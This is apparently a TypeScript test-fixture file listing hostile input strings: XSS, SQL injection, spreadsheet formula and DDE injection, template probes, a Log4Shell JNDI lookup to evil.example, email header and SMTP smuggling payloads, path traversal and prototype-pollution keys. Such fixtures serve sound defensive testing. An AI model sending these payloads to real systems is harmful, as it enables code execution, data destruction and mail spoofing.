/** Single-line texts that a browser, shell, database, spreadsheet or template might interpret. */
export const LINES = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "';drop table teams;--",
  "' or '1'='1",
  '=HYPERLINK("http://evil.example","x")',
  "=cmd|' /C calc'!A0",
  '+1-1@SUM(A1)',
  '{{7*7}}${7*7}<%=7*7%>#{7*7}',
  '${jndi:ldap://evil.example/a}',
  '%0d%0aBcc: eve@evil.example',
  '=?utf-8?q?=0D=0ABcc:=20eve=40evil.example?=',
  'Ada <eve@evil.example>',
  '../../etc/passwd',
  '\\x00\\u0000\\0',
  '__proto__',
  'constructor',
  'null',
  '👩‍👩‍👧‍👦 Ünïcödé Ζ\u0335\u0321',
  'W'.repeat(80),
]

/** Characters that could start a new line or header, end a text, or change its direction. */
export const BREAKS = [
  '\n',
  '\r',
  '\r\n',
  '\r\n\r\n',
  '\u0000',
  '\u000b',
  '\u000c',
  '\u001b',
  '\u007f',
  '\u0085',
  '\u2028',
  '\u2029',
  '\u202e',
  '\u2066',
]

/** Multi-line texts. In SMTP a line with a single dot ends the email. */
export const PARAGRAPHS = [
  'Dear all,\r\n.\r\nMAIL FROM:<eve@evil.example>\r\nRCPT TO:<eve@evil.example>\r\nDATA\r\nX',
  'Dear all,\n.\nMAIL FROM:<eve@evil.example>\n\nBcc: eve@evil.example\n\n.',
  'Dear all,\r.\rQUIT\r\n\r\n--boundary\r\nContent-Type: text/html\r\n\r\n<b>',
  '.\n..\n...\nFrom eve@evil.example Sat Nov 21 00:00:00 2026',
]
